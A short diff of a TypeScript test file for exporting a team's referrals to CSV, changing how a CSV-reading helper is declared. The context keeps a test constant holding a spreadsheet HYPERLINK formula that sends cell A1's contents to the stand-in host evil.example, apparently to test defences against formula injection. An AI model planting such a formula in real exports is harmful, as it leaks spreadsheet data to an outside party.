@@ -9,7 +9,10 @@ import type { ExportRow } from "./columns.ts";
 import { csvStream } from "./csv.ts";
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-const readCsv = (text: string) => parse(text, { bom: true, record_delimiter: "\r\n" }) as string[][];
+function readCsv(text: string): string[][] {
+  const rows: unknown = parse(text, { bom: true, record_delimiter: "\r\n" });
+  return rows as string[][];
+}
 
 describe("exporting the team's referrals", () => {
   const clock = new SettableClock(new Date("2026-11-02T10:00:00Z"));
